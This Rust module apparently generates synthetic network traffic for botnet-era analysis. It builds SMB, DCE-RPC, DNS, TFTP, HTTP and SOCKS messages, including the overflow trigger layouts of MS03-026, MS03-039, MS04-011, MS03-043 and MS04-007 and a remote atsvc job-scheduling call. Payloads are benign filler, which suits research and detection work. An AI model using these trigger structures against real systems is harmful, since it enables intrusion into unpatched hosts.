//! Application payloads built from the public protocol structure: NetBIOS
//! session, SMB1, DCE-RPC (connection-oriented and connectionless), RAP,
//! SPNEGO, DNS, TFTP, HTTP, SOCKS and SMTP. Exploit payloads carry benign
//! filler (`A` bytes) where real attacks carry code.

use std::net::Ipv4Addr;

/// The NDR transfer syntax 8a885d04-1ceb-11c9-9fe8-08002b104860 v2.
pub const NDR_UUID: &str = "8a885d04-1ceb-11c9-9fe8-08002b104860";
/// ISystemActivator (MS03-026, RemoteCreateInstance opnum 4).
pub const ISYSTEMACTIVATOR: &str = "000001a0-0000-0000-c000-000000000046";
/// IRemoteActivation / IActivation (MS03-039, RemoteActivation opnum 0).
pub const IREMOTEACTIVATION: &str = "4d9f4ab8-7d1c-11cf-861e-0020af6e7c57";
/// dssetup (MS04-011 LSASS, DsRolerUpgradeDownlevelServer opnum 9).
pub const DSSETUP: &str = "3919286a-b10c-11d0-9ba8-00c04fd92ef5";
/// Task scheduler atsvc (share access: JobAdd opnum 0).
pub const ATSVC: &str = "1ff70682-0a51-30e8-076d-740be8cee98b";
/// Messenger msgsvc (MS03-043, NetrSendMessage opnum 0, over UDP 135).
pub const MSGSVC: &str = "5a7b91f8-ff00-11d0-a9b2-00c04fb6e6fc";

/// A DCE UUID in little-endian (NDR) byte order.
pub fn uuid_le(s: &str) -> [u8; 16] {
    let hexs: String = s.chars().filter(|c| *c != '-').collect();
    let mut b = [0u8; 16];
    for (i, byte) in b.iter_mut().enumerate() {
        *byte = u8::from_str_radix(&hexs[2 * i..2 * i + 2], 16).unwrap_or(0);
    }
    b[0..4].reverse();
    b[4..6].reverse();
    b[6..8].reverse();
    b
}

fn le16(v: &mut Vec<u8>, x: u16) {
    v.extend_from_slice(&x.to_le_bytes());
}
fn le32(v: &mut Vec<u8>, x: u32) {
    v.extend_from_slice(&x.to_le_bytes());
}
fn pad4(v: &mut Vec<u8>) {
    while !v.len().is_multiple_of(4) {
        v.push(0);
    }
}

/// NDR conformant varying UTF-16 string (NUL included in the counts).
pub fn ndr_wstring(v: &mut Vec<u8>, s: &str) {
    let n = s.encode_utf16().count() as u32 + 1;
    le32(v, n);
    le32(v, 0);
    le32(v, n);
    for u in s.encode_utf16() {
        le16(v, u);
    }
    le16(v, 0);
    pad4(v);
}

/// NDR conformant varying 8-bit string (NUL included).
pub fn ndr_cstring(v: &mut Vec<u8>, s: &[u8]) {
    let n = s.len() as u32 + 1;
    le32(v, n);
    le32(v, 0);
    le32(v, n);
    v.extend_from_slice(s);
    v.push(0);
    pad4(v);
}

/// Prefixes a NetBIOS session message header (type 0, 17-bit length).
pub fn nbss(msg: &[u8]) -> Vec<u8> {
    let n = msg.len() as u32;
    let mut v = Vec::with_capacity(4 + msg.len());
    v.push(0);
    v.extend_from_slice(&[(n >> 16) as u8 & 1, (n >> 8) as u8, n as u8]);
    v.extend_from_slice(msg);
    v
}

/// SMB1 conversation state (ids the server hands out).
#[derive(Clone, Debug)]
pub struct Smb {
    /// User id.
    pub uid: u16,
    /// Tree id.
    pub tid: u16,
    /// File id of the open pipe.
    pub fid: u16,
    /// Multiplex id counter.
    pub mid: u16,
    /// Process id.
    pub pid: u16,
}

/// SMB1 command codes used here.
pub mod smbcmd {
    /// Transaction.
    pub const TRANS: u8 = 0x25;
    /// Negotiate Protocol.
    pub const NEGOTIATE: u8 = 0x72;
    /// Session Setup AndX.
    pub const SESSION_SETUP: u8 = 0x73;
    /// Tree Connect AndX.
    pub const TREE_CONNECT: u8 = 0x75;
    /// NT Create AndX.
    pub const NT_CREATE: u8 = 0xa2;
}

impl Smb {
    /// A fresh conversation.
    pub fn new(pid: u16) -> Smb {
        Smb {
            uid: 0,
            tid: 0,
            fid: 0,
            mid: 1,
            pid,
        }
    }

    fn header(&self, cmd: u8, response: bool, extsec: bool) -> Vec<u8> {
        let mut v = Vec::with_capacity(256);
        v.extend_from_slice(b"\xffSMB");
        v.push(cmd);
        le32(&mut v, 0);
        v.push(if response { 0x98 } else { 0x18 });
        // long names, NT status; extended security when negotiated.
        let f2: u16 = 0x0001 | 0x4000 | if extsec { 0x0800 } else { 0 };
        le16(&mut v, f2);
        le16(&mut v, 0);
        v.extend_from_slice(&[0u8; 8]);
        le16(&mut v, 0);
        le16(&mut v, self.tid);
        le16(&mut v, self.pid);
        le16(&mut v, self.uid);
        le16(&mut v, self.mid);
        v
    }

    fn finish(mut v: Vec<u8>, words: &[u8], bytes: &[u8]) -> Vec<u8> {
        v.push((words.len() / 2) as u8);
        v.extend_from_slice(words);
        le16(&mut v, bytes.len() as u16);
        v.extend_from_slice(bytes);
        nbss(&v)
    }

    /// Negotiate request offering the classic dialects.
    pub fn negotiate_req(&self, extsec: bool) -> Vec<u8> {
        let mut b = Vec::new();
        for d in [
            "PC NETWORK PROGRAM 1.0",
            "LANMAN1.0",
            "Windows for Workgroups 3.1a",
            "LM1.2X002",
            "LANMAN2.1",
            "NT LM 0.12",
        ] {
            b.push(2);
            b.extend_from_slice(d.as_bytes());
            b.push(0);
        }
        Self::finish(self.header(smbcmd::NEGOTIATE, false, extsec), &[], &b)
    }

    /// Negotiate response choosing NT LM 0.12 (index 5).
    pub fn negotiate_resp(&self, extsec: bool, challenge: [u8; 8]) -> Vec<u8> {
        let mut w = Vec::new();
        le16(&mut w, 5);
        w.push(0x03); // user security, encrypt passwords
        le16(&mut w, 50);
        le16(&mut w, 1);
        le32(&mut w, 16644);
        le32(&mut w, 65536);
        le32(&mut w, 0);
        let caps: u32 = 0x0000_e3fd | if extsec { 0x8000_0000 } else { 0 };
        le32(&mut w, caps);
        w.extend_from_slice(&0x01c5_5c2e_8000_0000u64.to_le_bytes());
        le16(&mut w, 0xfde4); // UTC+9 as minutes west (−540)
        let mut b = Vec::new();
        if extsec {
            w.push(0);
            b.extend_from_slice(&[0x11; 16]); // server GUID
        } else {
            w.push(8);
            b.extend_from_slice(&challenge);
            b.extend_from_slice(b"WORKGROUP\0");
        }
        Self::finish(self.header(smbcmd::NEGOTIATE, true, extsec), &w, &b)
    }

    /// Session Setup AndX (NT LM 0.12, no extended security) with an
    /// account and a 24-byte response derived from a weak password.
    pub fn session_setup_req(&self, account: &str, password: &str) -> Vec<u8> {
        let mut w = session_setup_words();
        let pw: Vec<u8> = if account.is_empty() {
            Vec::new()
        } else {
            // Not a real LM hash: a deterministic 24-byte stand-in; the
            // plaintext weak password is recorded in the ground truth.
            let mut r = [0u8; 24];
            for (i, c) in password.bytes().cycle().take(24).enumerate() {
                r[i] = c ^ (i as u8).wrapping_mul(37);
            }
            r.to_vec()
        };
        le16(&mut w, pw.len() as u16);
        le16(&mut w, 0);
        le32(&mut w, 0);
        le32(&mut w, 0x0000_00d4);
        let mut b = pw;
        b.extend_from_slice(account.as_bytes());
        b.push(0);
        b.extend_from_slice(b"WORKGROUP\0Windows 2000 2195\0Windows 2000 5.0\0");
        Self::finish(self.header(smbcmd::SESSION_SETUP, false, false), &w, &b)
    }

    /// Session Setup AndX response (guest or user logon accepted).
    pub fn session_setup_resp(&self) -> Vec<u8> {
        let w = [0xff, 0, 0, 0, 0, 0];
        Self::finish(
            self.header(smbcmd::SESSION_SETUP, true, false),
            &w,
            b"Windows 5.0\0Windows 2000 LAN Manager\0WORKGROUP\0",
        )
    }

    /// Session Setup AndX with extended security carrying `blob`.
    pub fn session_setup_extsec_req(&self, blob: &[u8]) -> Vec<u8> {
        let mut w = session_setup_words();
        le16(&mut w, blob.len() as u16);
        le32(&mut w, 0);
        le32(&mut w, 0x8000_00d4);
        let mut b = blob.to_vec();
        b.extend_from_slice(b"Windows 2000 2195\0Windows 2000 5.0\0");
        Self::finish(self.header(smbcmd::SESSION_SETUP, false, true), &w, &b)
    }

    /// Tree Connect AndX request for `path` (e.g. `\\1.2.3.4\IPC$`).
    pub fn tree_connect_req(&self, path: &str) -> Vec<u8> {
        let mut w = vec![0xff, 0, 0, 0];
        le16(&mut w, 0x0008);
        le16(&mut w, 1);
        let mut b = vec![0];
        b.extend_from_slice(path.as_bytes());
        b.push(0);
        b.extend_from_slice(b"?????\0");
        Self::finish(self.header(smbcmd::TREE_CONNECT, false, false), &w, &b)
    }

    /// Tree Connect AndX response (`IPC` or a disk share).
    pub fn tree_connect_resp(&self, ipc: bool) -> Vec<u8> {
        let mut w = vec![0xff, 0, 0, 0];
        le16(&mut w, 1);
        let b: &[u8] = if ipc { b"IPC\0\0" } else { b"A:\0NTFS\0" };
        Self::finish(self.header(smbcmd::TREE_CONNECT, true, false), &w, b)
    }

    /// NT Create AndX request opening a named pipe such as `\lsarpc`.
    pub fn nt_create_req(&self, name: &str) -> Vec<u8> {
        let mut w = vec![0xff, 0, 0, 0, 0];
        le16(&mut w, name.len() as u16);
        le32(&mut w, 0x16);
        le32(&mut w, 0);
        le32(&mut w, 0x0002_019f);
        w.extend_from_slice(&0u64.to_le_bytes());
        le32(&mut w, 0);
        le32(&mut w, 3);
        le32(&mut w, 1);
        le32(&mut w, 0);
        le32(&mut w, 2);
        w.push(0);
        let mut b = name.as_bytes().to_vec();
        b.push(0);
        Self::finish(self.header(smbcmd::NT_CREATE, false, false), &w, &b)
    }

    /// NT Create AndX response for a pipe.
    pub fn nt_create_resp(&self) -> Vec<u8> {
        let mut w = vec![0xff, 0, 0, 0, 0];
        le16(&mut w, self.fid);
        le32(&mut w, 1);
        for _ in 0..4 {
            w.extend_from_slice(&0u64.to_le_bytes());
        }
        le32(&mut w, 0x80);
        w.extend_from_slice(&4096u64.to_le_bytes());
        w.extend_from_slice(&0u64.to_le_bytes());
        le16(&mut w, 2);
        le16(&mut w, 0x05ff);
        w.push(0);
        Self::finish(self.header(smbcmd::NT_CREATE, true, false), &w, &[])
    }

    /// SMB Transaction: `TransactNmPipe` on the open pipe (setup words
    /// given) or a RAP call on `\PIPE\LANMAN` (no setup, params only).
    pub fn trans_req(&self, name: &str, setup: &[u16], params: &[u8], data: &[u8]) -> Vec<u8> {
        // Offsets count from the start of the SMB header.
        let wct = 14 + setup.len();
        let mut name0 = name.as_bytes().to_vec();
        name0.push(0);
        let (b, param_off, data_off) = trans_bytes(wct, name0, params, data);
        let mut w = Vec::new();
        le16(&mut w, params.len() as u16);
        le16(&mut w, data.len() as u16);
        le16(&mut w, 1024);
        le16(&mut w, 4280);
        w.push(0);
        w.push(0);
        le16(&mut w, 0);
        le32(&mut w, 0);
        le16(&mut w, 0);
        le16(&mut w, params.len() as u16);
        le16(&mut w, param_off as u16);
        le16(&mut w, data.len() as u16);
        le16(&mut w, data_off as u16);
        w.push(setup.len() as u8);
        w.push(0);
        for s in setup {
            le16(&mut w, *s);
        }
        Self::finish(self.header(smbcmd::TRANS, false, false), &w, &b)
    }

    /// `TransactNmPipe` (setup 0x0026) on the open pipe `\PIPE\`
    /// carrying one DCE-RPC PDU.
    pub fn transact_nm_pipe(&self, pdu: &[u8]) -> Vec<u8> {
        self.trans_req("\\PIPE\\", &[0x26, self.fid], &[], pdu)
    }

    /// SMB Transaction response carrying `params` and `data`.
    pub fn trans_resp(&self, params: &[u8], data: &[u8]) -> Vec<u8> {
        let (b, param_off, data_off) = trans_bytes(10, vec![0u8], params, data);
        let mut w = Vec::new();
        le16(&mut w, params.len() as u16);
        le16(&mut w, data.len() as u16);
        le16(&mut w, 0);
        le16(&mut w, params.len() as u16);
        le16(&mut w, param_off as u16);
        le16(&mut w, 0);
        le16(&mut w, data.len() as u16);
        le16(&mut w, data_off as u16);
        le16(&mut w, 0);
        w.push(0);
        w.push(0);
        Self::finish(self.header(smbcmd::TRANS, true, false), &w, &b)
    }
}

/// The first words of a Session Setup AndX request: no AndX command,
/// max buffer 16644, max multiplex 50, VC 0, session key 0.
fn session_setup_words() -> Vec<u8> {
    let mut w = vec![0xff, 0, 0, 0];
    le16(&mut w, 16644);
    le16(&mut w, 50);
    le16(&mut w, 0);
    le32(&mut w, 0);
    w
}

/// The byte block of an SMB Transaction with `wct` parameter words:
/// `head` (the name, or the pad byte of a response), then `params` and
/// `data`, each starting on a 4-byte boundary counted from the SMB
/// header. Returns the block and the two offsets.
fn trans_bytes(wct: usize, head: Vec<u8>, params: &[u8], data: &[u8]) -> (Vec<u8>, usize, usize) {
    let bytes_start = 32 + 1 + 2 * wct + 2;
    let mut b = head;
    let aligned_offset = |b: &mut Vec<u8>| {
        while !(bytes_start + b.len()).is_multiple_of(4) {
            b.push(0);
        }
        bytes_start + b.len()
    };
    let param_off = aligned_offset(&mut b);
    b.extend_from_slice(params);
    let data_off = aligned_offset(&mut b);
    b.extend_from_slice(data);
    (b, param_off, data_off)
}

/// DCE-RPC connection-oriented bind to one interface (NDR v2).
pub fn dce_bind(call_id: u32, iface: &str, ver_major: u16, ver_minor: u16) -> Vec<u8> {
    let mut v = Vec::with_capacity(72);
    v.extend_from_slice(&[5, 0, 11, 3, 0x10, 0, 0, 0]);
    le16(&mut v, 72);
    le16(&mut v, 0);
    le32(&mut v, call_id);
    le16(&mut v, 4280);
    le16(&mut v, 4280);
    le32(&mut v, 0);
    v.extend_from_slice(&[1, 0, 0, 0]);
    le16(&mut v, 0);
    v.extend_from_slice(&[1, 0]);
    v.extend_from_slice(&uuid_le(iface));
    le16(&mut v, ver_major);
    le16(&mut v, ver_minor);
    v.extend_from_slice(&uuid_le(NDR_UUID));
    le32(&mut v, 2);
    v
}

/// DCE-RPC bind_ack accepting the NDR context; `sec_addr` is the
/// secondary address (`\PIPE\lsass`, `135`).
pub fn dce_bind_ack(call_id: u32, sec_addr: &str) -> Vec<u8> {
    let mut v = vec![5, 0, 12, 3, 0x10, 0, 0, 0, 0, 0, 0, 0];
    le32(&mut v, call_id);
    le16(&mut v, 4280);
    le16(&mut v, 4280);
    le32(&mut v, 0x0000_53f0);
    le16(&mut v, sec_addr.len() as u16 + 1);
    v.extend_from_slice(sec_addr.as_bytes());
    v.push(0);
    pad4(&mut v);
    v.extend_from_slice(&[1, 0, 0, 0]);
    le16(&mut v, 0);
    le16(&mut v, 0);
    v.extend_from_slice(&uuid_le(NDR_UUID));
    le32(&mut v, 2);
    let n = v.len() as u16;
    v[8..10].copy_from_slice(&n.to_le_bytes());
    v
}

/// DCE-RPC request PDU (single fragment) for `opnum` with `stub`.
pub fn dce_request(call_id: u32, opnum: u16, stub: &[u8]) -> Vec<u8> {
    let mut v = Vec::with_capacity(24 + stub.len());
    v.extend_from_slice(&[5, 0, 0, 3, 0x10, 0, 0, 0]);
    le16(&mut v, (24 + stub.len()) as u16);
    le16(&mut v, 0);
    le32(&mut v, call_id);
    le32(&mut v, stub.len() as u32);
    le16(&mut v, 0);
    le16(&mut v, opnum);
    v.extend_from_slice(stub);
    v
}

/// DCE-RPC connectionless (v4) request PDU.
pub fn dce_cl_request(
    iface: &str,
    activity: [u8; 16],
    seq: u32,
    opnum: u16,
    stub: &[u8],
) -> Vec<u8> {
    let mut v = Vec::with_capacity(80 + stub.len());
    v.extend_from_slice(&[4, 0, 0x20, 0, 0x10, 0, 0, 0]);
    v.extend_from_slice(&[0u8; 16]); // object
    v.extend_from_slice(&uuid_le(iface));
    v.extend_from_slice(&activity);
    le32(&mut v, 0); // server boot time
    le32(&mut v, 1); // interface version
    le32(&mut v, seq);
    le16(&mut v, opnum);
    le16(&mut v, 0xffff); // interface hint
    le16(&mut v, 0xffff); // activity hint
    le16(&mut v, stub.len() as u16);
    le16(&mut v, 0); // fragment number
    v.push(0); // auth proto
    v.push(0); // serial low
    v.extend_from_slice(stub);
    v
}

/// `n` bytes of benign filler (`A`), the stand-in for overflow content.
pub fn filler(n: usize) -> String {
    "A".repeat(n)
}

/// An ORPCTHIS header (COM version 5.6, no extensions).
fn orpcthis(v: &mut Vec<u8>, cid: [u8; 16]) {
    le16(v, 5);
    le16(v, 6);
    le32(v, 0);
    le32(v, 0);
    v.extend_from_slice(&cid);
    le32(v, 0);
}

/// MS03-026 RemoteCreateInstance stub: ORPCTHIS, then an oversized UNC
/// server name (`\\` + filler + `\` + file) and the download instruction.
pub fn stub_ms03_026(cid: [u8; 16], filler_len: usize, instruction: &str) -> Vec<u8> {
    let mut v = Vec::new();
    orpcthis(&mut v, cid);
    le32(&mut v, 0); // pUnkOuter NULL
    le32(&mut v, 0x0002_0000); // pActProperties referent
    let name = format!("\\\\{}\\C$\\{}", filler(filler_len), instruction);
    ndr_wstring(&mut v, &name);
    v
}

/// MS03-039 RemoteActivation stub: ORPCTHIS, CLSID, an oversized object
/// name and the download instruction.
pub fn stub_ms03_039(cid: [u8; 16], filler_len: usize, instruction: &str) -> Vec<u8> {
    let mut v = Vec::new();
    orpcthis(&mut v, cid);
    v.extend_from_slice(&uuid_le("00000319-0000-0000-c000-000000000046"));
    le32(&mut v, 0x0002_0004);
    let name = format!("\\\\{}\\{}", filler(filler_len), instruction);
    ndr_wstring(&mut v, &name);
    le32(&mut v, 0); // pObjectStorage NULL
    le32(&mut v, 2); // ClientImpLevel
    le32(&mut v, 0); // Mode
    le32(&mut v, 1); // Interfaces
    le32(&mut v, 0x0002_0008); // pIIDs
    le32(&mut v, 1);
    v.extend_from_slice(&uuid_le("00000000-0000-0000-c000-000000000046")); // IUnknown
    le16(&mut v, 1); // cRequestedProtseqs
    le16(&mut v, 0);
    le32(&mut v, 1);
    le16(&mut v, 7); // ncacn_ip_tcp
    v
}

/// MS04-011 DsRolerUpgradeDownlevelServer stub: an oversized domain
/// name string followed by the download instruction.
pub fn stub_ms04_011(filler_len: usize, instruction: &str) -> Vec<u8> {
    let mut v = Vec::new();
    le32(&mut v, 0x0002_0000);
    let name = format!("{}\\{}", filler(filler_len), instruction);
    ndr_wstring(&mut v, &name);
    v
}

/// atsvc JobAdd stub scheduling `command` on `\\server`.
pub fn stub_jobadd(server: &str, command: &str) -> Vec<u8> {
    let mut v = Vec::new();
    le32(&mut v, 0x0002_0000);
    ndr_wstring(&mut v, server);
    le32(&mut v, 0); // JobTime
    le32(&mut v, 0); // DaysOfMonth
    v.push(0); // DaysOfWeek
    v.push(0x10); // Flags: JOB_NONINTERACTIVE
    v.extend_from_slice(&[0, 0]);
    le32(&mut v, 0x0002_0004);
    ndr_wstring(&mut v, command);
    v
}

/// MS03-043 NetrSendMessage stub: from, to and an oversized text.
pub fn stub_ms03_043(from: &str, to: &str, filler_len: usize, instruction: &str) -> Vec<u8> {
    let mut v = Vec::new();
    ndr_cstring(&mut v, from.as_bytes());
    ndr_cstring(&mut v, to.as_bytes());
    let text = format!("{}{}", filler(filler_len), instruction);
    ndr_cstring(&mut v, text.as_bytes());
    v
}

/// RAP NetServerEnum2 (opcode 104) parameters with an oversized domain.
pub fn rap_netserverenum2(filler_len: usize) -> Vec<u8> {
    let mut v = Vec::new();
    le16(&mut v, 104);
    v.extend_from_slice(b"WrLehDz\0B16BBDz\0");
    le16(&mut v, 1); // level
    le16(&mut v, 0xffff); // receive buffer
    le32(&mut v, 0xffff_ffff); // server type: all
    v.extend_from_slice(filler(filler_len).as_bytes());
    v.push(0);
    v
}

/// A BER length in its shortest form.
fn ber_len(v: &mut Vec<u8>, n: usize) {
    if n < 0x80 {
        v.push(n as u8);
    } else if n < 0x100 {
        v.extend_from_slice(&[0x81, n as u8]);
    } else {
        v.extend_from_slice(&[0x82, (n >> 8) as u8, n as u8]);
    }
}

fn ber(tag: u8, body: &[u8]) -> Vec<u8> {
    let mut v = vec![tag];
    ber_len(&mut v, body.len());
    v.extend_from_slice(body);
    v
}

/// MS04-007: a SPNEGO NegTokenInit whose mechToken holds a BER BIT STRING
/// declaring a 4-byte long-form length (0x84 FF FF FF F0) far larger than
/// the bytes that follow — the malformed ASN.1 the attack relies on — then
/// benign filler.
pub fn spnego_asn1_overflow(filler_len: usize) -> Vec<u8> {
    let ntlmssp_oid = [
        0x06, 0x0a, 0x2b, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x02, 0x0a,
    ];
    let mut bad = vec![0x03, 0x84, 0xff, 0xff, 0xff, 0xf0, 0x00];
    bad.extend_from_slice(filler(filler_len).as_bytes());
    let mech_token = ber(0xa2, &ber(0x04, &ber(0x23, &bad)));
    let mech_types = ber(0xa0, &ber(0x30, &ntlmssp_oid));
    let mut inner = mech_types;
    inner.extend_from_slice(&mech_token);
    let neg_init = ber(0xa0, &ber(0x30, &inner));
    let mut app = vec![0x06, 0x06, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x02];
    app.extend_from_slice(&neg_init);
    ber(0x60, &app)
}

/// DNS query for an A record.
pub fn dns_query(id: u16, name: &str) -> Vec<u8> {
    let mut v = Vec::with_capacity(32 + name.len());
    v.extend_from_slice(&id.to_be_bytes());
    v.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    push_name(&mut v, name);
    v.extend_from_slice(&[0, 1, 0, 1]);
    v
}

fn push_name(v: &mut Vec<u8>, name: &str) {
    for label in name.split('.').filter(|l| !l.is_empty()) {
        let l = &label.as_bytes()[..label.len().min(63)];
        v.push(l.len() as u8);
        v.extend_from_slice(l);
    }
    v.push(0);
}

/// DNS response with the question and one A record per address
/// (NXDOMAIN when `addrs` is empty).
pub fn dns_response(id: u16, name: &str, addrs: &[Ipv4Addr], ttl: u32) -> Vec<u8> {
    let mut v = Vec::with_capacity(64);
    v.extend_from_slice(&id.to_be_bytes());
    let rcode = if addrs.is_empty() { 3 } else { 0 };
    v.extend_from_slice(&[0x81, 0x80 | rcode, 0, 1]);
    v.extend_from_slice(&(addrs.len() as u16).to_be_bytes());
    v.extend_from_slice(&[0, 0, 0, 0]);
    push_name(&mut v, name);
    v.extend_from_slice(&[0, 1, 0, 1]);
    for a in addrs {
        v.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1]);
        v.extend_from_slice(&ttl.to_be_bytes());
        v.extend_from_slice(&[0, 4]);
        v.extend_from_slice(&a.octets());
    }
    v
}

/// TFTP read request, octet mode.
pub fn tftp_rrq(file: &str) -> Vec<u8> {
    let mut v = vec![0, 1];
    v.extend_from_slice(file.as_bytes());
    v.push(0);
    v.extend_from_slice(b"octet\0");
    v
}

/// TFTP DATA block.
pub fn tftp_data(block: u16, data: &[u8]) -> Vec<u8> {
    let mut v = Vec::with_capacity(4 + data.len());
    v.extend_from_slice(&[0, 3]);
    v.extend_from_slice(&block.to_be_bytes());
    v.extend_from_slice(data);
    v
}

/// TFTP ACK.
pub fn tftp_ack(block: u16) -> [u8; 4] {
    let b = block.to_be_bytes();
    [0, 4, b[0], b[1]]
}

/// TFTP ERROR.
pub fn tftp_error(code: u16, msg: &str) -> Vec<u8> {
    let mut v = vec![0, 5];
    v.extend_from_slice(&code.to_be_bytes());
    v.extend_from_slice(msg.as_bytes());
    v.push(0);
    v
}

/// HTTP/1.0 GET request.
pub fn http_get(host: &str, path: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.0\r\nHost: {host}\r\nUser-Agent: Mozilla/4.0 (compatible)\r\nAccept: */*\r\n\r\n")
        .into_bytes()
}

/// HTTP/1.0 200 response head for a binary body of `len` bytes.
pub fn http_ok_head(len: usize) -> Vec<u8> {
    format!("HTTP/1.0 200 OK\r\nServer: Apache\r\nContent-Type: application/octet-stream\r\nContent-Length: {len}\r\n\r\n")
        .into_bytes()
}

/// HTTP/1.0 404 response.
pub fn http_not_found() -> Vec<u8> {
    b"HTTP/1.0 404 Not Found\r\nServer: Apache\r\nContent-Type: text/html\r\nContent-Length: 9\r\n\r\nnot found".to_vec()
}

/// SOCKS4 CONNECT request to `dst:port`.
pub fn socks4_connect(dst: Ipv4Addr, port: u16) -> Vec<u8> {
    let mut v = vec![4, 1];
    v.extend_from_slice(&port.to_be_bytes());
    v.extend_from_slice(&dst.octets());
    v.push(0);
    v
}

/// SOCKS4 granted reply.
pub fn socks4_granted(dst: Ipv4Addr, port: u16) -> Vec<u8> {
    let mut v = vec![0, 0x5a];
    v.extend_from_slice(&port.to_be_bytes());
    v.extend_from_slice(&dst.octets());
    v
}

/// SOCKS5 CONNECT request (IPv4) to `dst:port`.
pub fn socks5_connect(dst: Ipv4Addr, port: u16) -> Vec<u8> {
    let mut v = vec![5, 1, 0, 1];
    v.extend_from_slice(&dst.octets());
    v.extend_from_slice(&port.to_be_bytes());
    v
}

/// SOCKS5 success reply.
pub fn socks5_ok(bound: Ipv4Addr, port: u16) -> Vec<u8> {
    let mut v = vec![5, 0, 0, 1];
    v.extend_from_slice(&bound.octets());
    v.extend_from_slice(&port.to_be_bytes());
    v
}

/// Prefixes every line of `text` (CR LF terminated) with IRCv3 message
/// tags as a server with `server-time` and `message-ids` writes them:
/// `@time=2005-05-19T01:02:03.456Z;msgid=<session>-<n> `. `n` counts the
/// session's tagged lines.
pub fn ircv3_tagged(text: &str, t_us: i64, session: u32, n: &mut u32) -> String {
    let stamp = botscope_core::Ts(t_us).rfc3339();
    // RFC 3339 with milliseconds, as the server-time spec writes it.
    let stamp = format!("{}Z", &stamp[..stamp.len().saturating_sub(4)]);
    let mut out = String::with_capacity(text.len() + 64);
    for line in text.split_inclusive("\r\n") {
        *n += 1;
        out.push_str(&format!("@time={stamp};msgid={session:x}-{n} "));
        out.push_str(line);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn uuid_is_little_endian_in_first_three_fields() {
        let u = uuid_le(DSSETUP);
        assert_eq!(&u[..8], &[0x6a, 0x28, 0x19, 0x39, 0x0c, 0xb1, 0xd0, 0x11]);
        assert_eq!(&u[8..], &[0x9b, 0xa8, 0x00, 0xc0, 0x4f, 0xd9, 0x2e, 0xf5]);
    }

    #[test]
    fn nbss_length_covers_message() {
        let s = Smb::new(1).negotiate_req(false);
        let n = ((s[1] as usize & 1) << 16) | ((s[2] as usize) << 8) | s[3] as usize;
        assert_eq!(n + 4, s.len());
        assert_eq!(&s[4..8], b"\xffSMB");
    }

    #[test]
    fn ircv3_tags_prefix_every_line_with_millisecond_time() {
        let mut n = 0;
        let t = 1_116_460_800_000_000 + 3_723_456_789; // 01:02:03.456789
        let got = ircv3_tagged(":s 001 a :hi\r\n:s 376 a :end\r\n", t, 0x2a, &mut n);
        assert_eq!(
            got,
            "@time=2005-05-19T01:02:03.456Z;msgid=2a-1 :s 001 a :hi\r\n@time=2005-05-19T01:02:03.456Z;msgid=2a-2 :s 376 a :end\r\n"
        );
        assert_eq!(n, 2);
    }
}
